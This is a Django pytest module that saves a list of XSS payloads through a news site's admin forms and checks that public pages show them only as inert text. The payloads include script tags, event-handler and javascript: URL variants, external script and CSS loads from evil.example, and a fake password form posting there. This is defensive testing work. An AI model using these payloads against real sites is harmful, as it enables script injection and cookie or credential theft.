"""Hostile markup typed into any field editors or administrators have never runs for readers.

Each payload is saved through the admin's own add/change views into every editable
text field, the article is published, and the public pages are parsed as a browser
would read them: no script-bearing element, no event handler, no script URL.
"""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.templatetags.static import static
from django.urls import Resolver404, resolve, reverse

from articles.models import Article, Channel, FriendlyLink, SiteSettings, Source
from tests.conftest import make_article, place
from tests.test_admin import admin_form, article_form

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">点击</a>',
    '<a href="JaVaScRiPt:alert(1)">点击</a>',
    '<a href=" &#14;  javascript:alert(1)">点击</a>',
    '<a href="jav&#x09;ascript:alert(1)">点击</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点击</a>',
    '<a href="vbscript:msgbox(1)">点击</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点击</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img src=x onerror=alert(1)//",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name="pw"><button>提交</button></form>',
    "<details open ontoggle=alert(1)>x</details>",
    '<body onload="alert(1)">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="x&quot; onmouseover=&quot;alert(1)">t</p>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<template><img src=x onerror=alert(1)></template>",
    "<video><source onerror=alert(1)></video>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
]

# Payloads that a URL field accepts as valid http(s) addresses.
URL_PAYLOADS = [
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/'onmouseover='alert(1)",
    'https://example.com/?q="><img/src=x/onerror=alert(1)>',
    'http://example.com/#"><svg/onload=alert(1)>',
    "https://example.com/javascript:alert(1)",
]

FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "base", "style", "svg", "math", "template", "noscript",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "cite",
    "xlink:href", "srcset", "lowsrc", "dynsrc",
}  # fmt: skip
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")
SITE_LINK_RELS = {"stylesheet", "canonical", "icon", "alternate"}
# Inside the site's own search form (and only there) these are the site's, not content.
SEARCH_FORM_ELEMENTS = {"form", "input", "button", "select", "option", "label"}
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]")
# The site's own script files and the buttons they drive (font size, print, the 无障碍
# toolbar): no inline code.
SITE_TOOL_ATTRIBUTES = {
    "data-font-size", "data-print", "data-a11y-toggle", "data-a11y-size", "data-a11y-scheme",
    "data-a11y-option", "data-a11y-speech", "data-a11y-reset", "data-a11y-close",
}  # fmt: skip


def is_site_script(tag, attrs):
    """The scripts the site loads itself: its own static files, nothing inline."""
    return tag == "script" and attrs in (
        [("src", static("js/site.js"))],
        [("src", static("js/reader-tools.js")), ("defer", None)],
    )


def is_site_tool_button(tag, attrs):
    """A font-size or print button of the article page: type="button", no form, no handler."""
    names = {name for name, _ in attrs}
    return (
        tag == "button"
        and dict(attrs).get("type") == "button"
        and bool(names & SITE_TOOL_ATTRIBUTES)
        and not any(name.startswith("on") or name.startswith("form") for name in names)
    )


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    """Users are created with a cheap hasher; no test here is about passwords."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def is_site_search_form(attrs):
    """The site's own search form: a GET form whose action is the site's search page."""
    action = attrs.get("action") or ""
    if (attrs.get("method") or "get").lower() != "get" or not action.startswith("/"):
        return False
    try:
        return resolve(urlsplit(action).path).url_name == "search"
    except Resolver404:
        return False


class PageAudit(HTMLParser):
    """Collects every start tag, whether it is inside the site's own search form, and text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []  # (tag, attrs, inside the site's search form)
        self.text = []
        self._in_site_form = False

    def handle_starttag(self, tag, attrs):
        if tag == "form":
            self._in_site_form = is_site_search_form(dict(attrs))
        self.tags.append((tag, attrs, self._in_site_form))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs, self._in_site_form))

    def handle_endtag(self, tag):
        if tag == "form":
            self._in_site_form = False

    def handle_data(self, data):
        self.text.append(data)


def audit(html):
    parser = PageAudit()
    parser.feed(html)
    parser.close()
    return parser


def problems_in(html):
    """Every way in which a page could run script, as readable strings."""
    found = []
    for tag, attrs, in_site_form in audit(html).tags:
        site_own = is_site_script(tag, attrs) or is_site_tool_button(tag, attrs)
        if (
            tag in FORBIDDEN_ELEMENTS
            and not (in_site_form and tag in SEARCH_FORM_ELEMENTS)
            and not site_own
        ):
            found.append(f"<{tag}> element")
        names = {name for name, _ in attrs}
        if tag == "meta" and "http-equiv" in names:
            found.append("<meta http-equiv>")
        if tag == "link" and not set(dict(attrs).get("rel", "").split()) <= SITE_LINK_RELS:
            found.append(f"<link {attrs}>")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            if name == "srcdoc":
                found.append(f"<{tag} srcdoc>")
            if name in URL_ATTRIBUTES and value is not None:
                url = _IGNORED_IN_URL.sub("", value).lower()
                if url.startswith(SCRIPT_SCHEMES):
                    found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and "url(" in value.lower():
                found.append(f"<{tag} style={value!r}>")
    return found


def links(html, css_class=None):
    """The href of every <a> on the page, or of those with ``css_class``."""
    return [
        dict(attrs).get("href")
        for tag, attrs, _ in audit(html).tags
        if tag == "a"
        and (css_class is None or css_class in (dict(attrs).get("class") or "").split())
    ]


def save(client, url, data):
    """POST an admin form and insist that it was saved (the admin redirects)."""
    response = client.post(url, data)
    if response.status_code != 302:
        errors = response.context["adminform"].form.errors if response.context else ""
        pytest.fail(f"admin did not save {url}: {errors}")
    return response


def fit(value, model, field):
    """The payload cut to the field's max_length, as long as the field takes."""
    max_length = model._meta.get_field(field).max_length
    return value[:max_length] if max_length else value


def publish_everywhere(admin_client, payload, url_payload):
    """Save ``payload`` into every editable text field through the admin views."""
    SiteSettings.load()
    settings_url = reverse("admin:articles_sitesettings_change", args=[1])
    save(
        admin_client,
        settings_url,
        admin_form(
            admin_client,
            settings_url,
            site_name=fit(payload, SiteSettings, "site_name"),
            organizer=fit(payload, SiteSettings, "organizer"),
            icp_number=fit(payload, SiteSettings, "icp_number"),
            site_code=fit(payload, SiteSettings, "site_code"),
            description=fit(payload, SiteSettings, "description"),
            domain=fit(payload, SiteSettings, "domain"),
            undertaker=fit(payload, SiteSettings, "undertaker"),
            police_number=fit(payload, SiteSettings, "police_number"),
            contact=fit(payload, SiteSettings, "contact"),
            weibo_url=url_payload,
        ),
    )
    add_link = reverse("admin:articles_friendlylink_add")
    data = admin_form(
        admin_client, add_link, name=fit(payload, FriendlyLink, "name"), url=url_payload
    )
    save(admin_client, add_link, data)

    channel_fields = {
        "name": fit(payload, Channel, "name"),
        "description": payload,
        "keywords": fit(payload, Channel, "keywords"),
        "show_in_nav": "on",
    }
    add_channel = reverse("admin:articles_channel_add")
    data = admin_form(admin_client, add_channel, **channel_fields, slug="xss")
    save(admin_client, add_channel, data)
    top = Channel.objects.get(slug="xss")
    data = admin_form(admin_client, add_channel, **channel_fields, slug="xss-sub", parent=top.pk)
    save(admin_client, add_channel, data)
    sub = Channel.objects.get(slug="xss-sub")

    add_source = reverse("admin:articles_source_add")
    data = admin_form(admin_client, add_source, name=fit(payload, Source, "name"), url=url_payload)
    save(admin_client, add_source, data)
    source = Source.objects.get()

    fields = {
        "title": fit(payload, Article, "title"),
        "author": fit(payload, Article, "author"),
        "keywords": fit(payload, Article, "keywords"),
        "source": source.pk,
    }
    add_article = reverse("admin:articles_article_add")
    # An empty summary, with the payload first in the body, so that the automatic
    # summary made from it is shown too.
    save(
        admin_client,
        add_article,
        article_form(admin_client, sub, **fields, summary="", body=f"{payload}<p>正文后</p>"),
    )
    first = Article.objects.get()
    save(
        admin_client,
        add_article,
        article_form(
            admin_client,
            sub,
            related=[(first, 0)],
            **fields,
            summary=fit(payload, Article, "summary"),
            body=f"<p>正文前</p>{payload}<p>正文后</p>",
        ),
    )
    second = Article.objects.exclude(pk=first.pk).get()
    place(second)  # on the home page's headlines, as an editor pushes it there
    return [
        "/",
        top.get_absolute_url(),
        sub.get_absolute_url(),
        first.get_absolute_url(),
        second.get_absolute_url(),
    ]


def test_payload_list_is_long_enough():
    """The attack list covers at least 25 distinct payloads."""
    assert len(set(PAYLOADS)) >= 25


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_every_field_is_harmless_on_public_pages(admin_client, client, payload):
    """A payload in every editable field reaches readers as text, never as live markup."""
    url_payload = URL_PAYLOADS[PAYLOADS.index(payload) % len(URL_PAYLOADS)]
    pages = publish_everywhere(admin_client, payload, url_payload)
    client.logout()
    title = Article.objects.first().title
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert problems_in(html) == [], url
        if url.startswith("/article/"):
            # The payload did reach the page: the title is shown as plain text.
            assert title in "".join(audit(html).text)
        # The same page in the other script (简/繁), as the reader's switch leads to it.
        for twin in links(html, "script-switch"):
            response = client.get(twin)
            assert response.status_code == 200, twin
            assert problems_in(response.content.decode()) == [], twin


@pytest.mark.parametrize("url_payload", URL_PAYLOADS)
def test_url_payloads_stay_inside_href(admin_client, client, url_payload):
    """A hostile but valid URL is written into href as one escaped attribute value."""
    pages = publish_everywhere(admin_client, "七星区纪委监委", url_payload)
    client.logout()
    for url in pages[3:]:
        html = client.get(url).content.decode()
        assert url_payload in links(html)
        assert problems_in(html) == []


@pytest.mark.parametrize(
    "bad_url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "javascript://example.com/%0Aalert(1)",
    ],
)
def test_script_urls_are_refused_in_url_fields(admin_client, bad_url):
    """The source and Weibo URL fields refuse script URLs with a form error."""
    add_source = reverse("admin:articles_source_add")
    response = admin_client.post(
        add_source, admin_form(admin_client, add_source, name="七星区纪委监委", url=bad_url)
    )
    assert response.status_code == 200
    assert "url" in response.context["adminform"].form.errors
    assert not Source.objects.exists()

    SiteSettings.load()
    settings_url = reverse("admin:articles_sitesettings_change", args=[1])
    response = admin_client.post(
        settings_url, admin_form(admin_client, settings_url, weibo_url=bad_url)
    )
    assert response.status_code == 200
    assert "weibo_url" in response.context["adminform"].form.errors
    assert SiteSettings.load().weibo_url == ""


def test_public_pages_have_no_script_at_all(client, channel):
    """The site's own pages carry no script element but the site's own script files, so
    any other script would be injected."""
    article = make_article(channel=channel, is_featured=True)
    for url in ("/", channel.get_absolute_url(), article.get_absolute_url()):
        html = client.get(url).content.decode()
        scripts = [attrs for tag, attrs, _ in audit(html).tags if tag == "script"]
        assert scripts == [
            [("src", static("js/site.js"))],
            [("src", static("js/reader-tools.js")), ("defer", None)],
        ]
        assert problems_in(html) == []


def test_audit_catches_injected_markup():
    """The page audit itself reports each kind of injected markup it looks for."""
    html = (
        "<script>x</script><iframe></iframe><p onclick='x'>t</p>"
        "<a href=' JaVa\tScript:alert(1)'>a</a><img src='data:image/png;base64,AA'>"
        '<meta http-equiv="refresh" content="0"><base href="/"><form></form>'
    )
    found = problems_in(html)
    assert len(found) == 8, found


def test_audit_tells_site_search_form_from_injected_form():
    """Only a GET form to the site's search page counts as the site's own form."""
    search = reverse("articles:search")
    site_form = f'<form action="{search}" method="get"><input name="q"><button>搜</button></form>'
    assert problems_in(site_form) == []
    injected = (
        '<form action="https://evil.example/" method="get"><input name="q"></form>'
        f'<form action="{search}" method="post"><input name="pw"></form>'
        "<input name='outside'>"
    )
    assert problems_in(injected) == [
        "<form> element",
        "<input> element",
        "<form> element",
        "<input> element",
        "<input> element",
    ]
